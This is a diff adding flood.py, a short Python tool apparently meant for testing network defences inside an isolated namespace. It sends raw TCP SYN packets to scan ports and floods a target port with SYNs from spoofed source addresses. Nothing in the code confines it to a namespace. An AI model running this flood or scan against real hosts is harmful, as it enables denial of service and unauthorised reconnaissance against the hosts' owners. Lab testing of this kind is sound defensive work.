@@ -1,0 +1,43 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""An attack, bounded, inside the network namespace that it is run in.
+
+flood.py scan SOURCE TARGET PORTS: one SYN to each port from 1 on.
+flood.py syn COUNT TARGET PORT: SYNs from COUNT different spoofed sources.
+"""
+import socket
+import struct
+import sys
+
+
+def packet(source, target, source_port, target_port):
+    """An IPv4 packet with a TCP SYN. The kernel fills in what is left 0 of the IP header."""
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0, source, target)
+    tcp = struct.pack("!HHIIBBHHH", source_port, target_port, 1, 0, 5 << 4, 2, 65535, 0, 0)
+    return ip + tcp
+
+
+def sender():
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+
+def send(raw, data, target):
+    try:
+        raw.sendto(data, (target, 0))
+    except OSError:  # the table is full: the kernel says so to the sender
+        pass
+
+
+def scan(source, target, ports):
+    raw, source, to = sender(), socket.inet_aton(source), socket.inet_aton(target)
+    for port in range(1, int(ports) + 1):
+        send(raw, packet(source, to, 40000, port), target)
+
+
+def syn(count, target, port):
+    raw, to = sender(), socket.inet_aton(target)
+    for number in range(int(count)):
+        spoofed = struct.pack("!I", 0x0b000000 + number * 61 % 0x00ffffff)
+        send(raw, packet(spoofed, to, 1024 + number % 50000, int(port)), target)
+
+
+{"scan": scan, "syn": syn}[sys.argv[1]](*sys.argv[2:])
